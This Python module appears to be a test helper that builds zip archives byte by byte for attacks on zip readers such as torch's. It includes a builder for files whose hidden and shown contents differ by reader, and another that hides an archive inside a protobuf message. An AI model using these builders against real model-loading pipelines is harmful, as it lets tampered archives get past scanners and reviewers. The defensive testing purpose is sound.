"""Zip archives byte by byte, for the attacks on zip readers (no hostile file is committed).

`Member` is one entry; `layout` writes local records and a central directory in the way torch's
writer does (stored, 64-byte aligned data, no descriptor), and the attack builders rearrange the
pieces: two central directories, case-folded names, an archive inside another file.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass


@dataclass(frozen=True)
class Member:
    name: str
    data: bytes


def members_of(archive: bytes, drop_debug: bool = True) -> list[Member]:
    """The entries of an archive, in order (debug_pkl files dropped: edited code would not match
    their source ranges)."""
    with zipfile.ZipFile(io.BytesIO(archive)) as reader:
        return [
            Member(i.filename, reader.read(i))
            for i in reader.infolist()
            if not (drop_debug and i.filename.endswith(".debug_pkl"))
        ]


def replace(members: list[Member], suffix: str, data: bytes) -> list[Member]:
    return [Member(m.name, data) if m.name.endswith(suffix) else m for m in members]


def _local(member: Member, at: int) -> bytes:
    name = member.name.encode()
    header_end = at + 30 + len(name) + 4
    padding = -header_end % 64
    extra = struct.pack("<HH", 0x4246, padding) + b"Z" * padding
    crc = zlib.crc32(member.data)
    size = len(member.data)
    head = struct.pack(
        "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, crc, size, size, len(name), len(extra)
    )
    return head + name + extra + member.data


def _central(member: Member, offset: int) -> bytes:
    name = member.name.encode()
    crc = zlib.crc32(member.data)
    size = len(member.data)
    return (
        struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            20,
            20,
            0,
            0,
            0,
            0,
            crc,
            size,
            size,
            len(name),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        + name
    )


def end_record(count: int, cd_size: int, cd_offset: int) -> bytes:
    return struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, cd_size, cd_offset, 0)


@dataclass(frozen=True)
class Pieces:
    locals: bytes  # the local records, written from `start`
    directory: bytes  # the central directory, its offsets relative to `start` + `shift`


def pieces(members: list[Member], start: int = 0, shift: int = 0) -> Pieces:
    """Local records written at file offset `start`; the central directory records offsets
    moved by `shift` (for a reader that adds a `concat` to them)."""
    out = bytearray()
    directory = bytearray()
    for member in members:
        at = start + len(out)
        out += _local(member, at)
        directory += _central(member, at - shift)
    return Pieces(bytes(out), bytes(directory))


def layout(members: list[Member], prefix: bytes = b"") -> bytes:
    """A complete archive after `prefix`, every offset absolute (as torch's reader wants)."""
    built = pieces(members, len(prefix))
    cd_offset = len(prefix) + len(built.locals)
    return (
        prefix
        + built.locals
        + built.directory
        + end_record(len(members), len(built.directory), cd_offset)
    )


def two_directories(hidden: list[Member], shown: list[Member]) -> bytes:
    """One file, two archives: torch's reader follows the recorded central directory offset to
    `hidden`, Python's zipfile reads the directory right before the end record, `shown`.

    [hidden locals][shown locals][hidden directory][shown directory][end record]
    """
    count = max(len(hidden), len(shown))
    hidden = hidden + [
        Member(f"{hidden[0].name.split('/')[0]}/extra/h{i}", b"")
        for i in range(count - len(hidden))
    ]
    shown = shown + [
        Member(f"{shown[0].name.split('/')[0]}/extra/s{i}", b"") for i in range(count - len(shown))
    ]
    first = pieces(hidden, 0)
    # miniz reads `cd_size` bytes at the hidden directory and parses `count` records from them:
    # the shown directory must be at least as long; a long name in an extra entry makes it so.
    filler = max(0, len(first.directory) - len(pieces(shown).directory)) + 1
    shown = [*shown[:-1], Member(shown[-1].name + "x" * filler, shown[-1].data)]
    hidden_directory_at = len(first.locals) + len(pieces(shown, len(first.locals)).locals)
    concat = len(first.directory)  # what Python's zipfile adds to every recorded offset
    second = pieces(shown, len(first.locals), shift=concat)
    return (
        first.locals
        + second.locals
        + first.directory
        + second.directory
        + end_record(count, len(second.directory), hidden_directory_at)
    )


def _varint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte, value = value & 0x7F, value >> 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def inside_protobuf(message: bytes, members: list[Member], field: int = 99) -> bytes:
    """`message` with an archive appended as one more (unknown) length-delimited field: the
    protobuf still parses, and the archive ends the file, where zip readers look."""
    length = len(layout(members))
    for _ in range(8):  # data alignment depends on where the archive starts
        prefix = message + _varint(field << 3 | 2) + _varint(length)
        archive = layout(members, prefix)
        if len(archive) - len(prefix) == length:
            return archive
        length = len(archive) - len(prefix)
    raise AssertionError("the archive's length does not settle")
